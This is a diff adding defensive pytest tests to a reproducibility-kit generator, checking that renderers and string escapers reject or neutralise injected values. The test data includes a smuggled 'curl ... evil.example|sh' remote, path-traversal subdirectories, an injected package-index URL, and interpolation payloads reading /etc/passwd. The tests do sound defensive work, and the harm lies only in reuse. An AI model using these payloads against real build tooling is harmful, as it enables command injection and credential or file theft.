@@ -156,3 +156,110 @@ def test_accepted_values_never_add_lines_or_instructions(tmp_path, baseline, fie
         assert _shape(text)[0] == _shape(baseline[rel])[0], f"{rel}: {value!r} in {_json_path(field)} added lines"
         if rel in ("Dockerfile", "envcapture.def", "Vagrantfile", "provision.sh"):
             assert _shape(text)[1] == _shape(baseline[rel])[1], f"{rel}: instructions changed"
+
+
+# ---------------------------------------------------------------- the renderers' own fence, without validation
+# build_kit validates the whole manifest before any renderer runs, so the tests above pass even if every
+# renderer's own check (grammar.require) were gone. These call the planner and the renderers directly with
+# values that never went through the schema.
+
+_DIRECT_PAYLOADS = ("and", "newline", "subshell", "single-quote")
+
+
+def _plan_directly(data):
+    from envcapture.render.kit import ALL_TARGETS
+    from envcapture.render.plan import Options, make_plan
+
+    return make_plan(data, Options(targets=ALL_TARGETS, command="cmd", manifest_sha256="0" * 64))
+
+
+@pytest.mark.parametrize("payload", _DIRECT_PAYLOADS)
+@pytest.mark.parametrize("index", range(len(FIELDS)), ids=[_json_path(p) for _, p in FIELDS])
+def test_planner_refuses_unvalidated_hostile_values(index, payload):
+    base, path = FIELDS[index]
+    data = copy.deepcopy(base)
+    _set(data, path, PAYLOADS[payload])
+    with pytest.raises(BadInput) as refused:
+        _plan_directly(data)
+    assert _json_path(path) in str(refused.value)
+
+
+@pytest.mark.parametrize("subdirectory", ["../../etc", "a/../../b", "..", "/abs", "x --index-url https://evil/simple",
+                                          "pkg#egg=evil", "a b"])
+def test_lock_builder_refuses_a_subdirectory_outside_the_source(subdirectory):
+    from envcapture.render.lock import build_lock
+
+    data = copy.deepcopy(FIELDS[0][0])
+    vcs = _index(data, "rsoccer-gym")
+    data["python_packages"][vcs]["source"]["subdirectory"] = subdirectory
+    with pytest.raises(BadInput, match=r"python_packages\[\d+\]\.source\.subdirectory"):
+        build_lock(data)
+
+
+def test_reproduce_md_quotes_the_remote_even_past_the_grammar():
+    """The clone command the reader pastes: a remote that slipped past the grammar stays one word."""
+    import shlex
+
+    from envcapture.render import reproduce_md
+
+    data = copy.deepcopy(FIELDS[0][0])
+    plan = _plan_directly(data)
+    plan.code_remote = "https://host/evil&&curl${IFS}evil.example|sh&&true"
+    plan.code_commit = "a" * 40
+    text = reproduce_md.render(plan, ["Dockerfile"])
+    line = next(line for line in text.splitlines() if line.strip().startswith("git clone"))
+    words = shlex.split(line)
+    assert words[:4] == ["git", "clone", plan.code_remote, "project"]
+    assert words[4:] == ["&&", "git", "-C", "project", "checkout", "a" * 40]
+
+
+def test_a_replaced_primary_index_is_named_in_reproduce_md(tmp_path):
+    data = copy.deepcopy(FIELDS[0][0])
+    data["python"]["package_indexes"]["index_url"] = "https://mirror.example.org/pypi/simple"
+    files = _render(tmp_path, data)
+    assert "Primary package index replaced: <https://mirror.example.org/pypi/simple>" in files["REPRODUCE.md"]
+    assert "--index-url https://mirror.example.org/pypi/simple\n" in files["requirements.lock"]
+
+
+# ---------------------------------------------------------------- the string escapers, against the real parsers
+
+_ESCAPER_VALUES = ["plain", "it's", 'say "hi"', "back\\slash", "trail\\", "#{`id`}", "${file(\"/etc/passwd\")}",
+                   "%{ if true }x%{ endif }", "$${kept}", "%%{kept}", "\\'", "\u202eevil", "line\nbreak", "tab\tx"]
+
+
+def test_ruby_string_round_trips_through_ruby():
+    import shutil
+    import subprocess
+
+    from envcapture.render.kit import ruby_string
+
+    ruby = shutil.which("ruby")
+    if ruby is None:
+        pytest.skip("ruby is not installed (apt-get install ruby)")
+    program = "".join(f"puts({ruby_string(v)}.inspect)\n" for v in _ESCAPER_VALUES)
+    done = subprocess.run([ruby, "-e", program], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    expected = subprocess.run([ruby, "-e", "STDIN.read.split(\"\\0\").each { |v| puts v.inspect }"],
+                              input="\0".join(_ESCAPER_VALUES), capture_output=True, text=True, timeout=60).stdout
+    assert done.stdout == expected
+    assert ruby_string("it's #{x}") == "'it\\'s #{x}'"
+
+
+def test_hcl_string_round_trips_through_packer(tmp_path):
+    import shutil
+    import subprocess
+
+    from envcapture.render.kit import hcl_string
+
+    packer = shutil.which("packer")
+    if packer is None:
+        pytest.skip("packer is not installed")
+    values = _ESCAPER_VALUES
+    config = tmp_path / "t.pkr.hcl"
+    config.write_text("".join(f'variable "v{i}" {{\n  default = {hcl_string(v)}\n}}\n' for i, v in enumerate(values)))
+    expression = "jsonencode([" + ", ".join(f"var.v{i}" for i in range(len(values))) + "])\n"
+    done = subprocess.run([packer, "console", str(config)], input=expression, capture_output=True, text=True,
+                          timeout=60)
+    assert done.returncode == 0, done.stderr
+    assert json.loads(done.stdout) == values
+    assert hcl_string('a${b}%{c}"') == '"a$${b}%%{c}\\""'
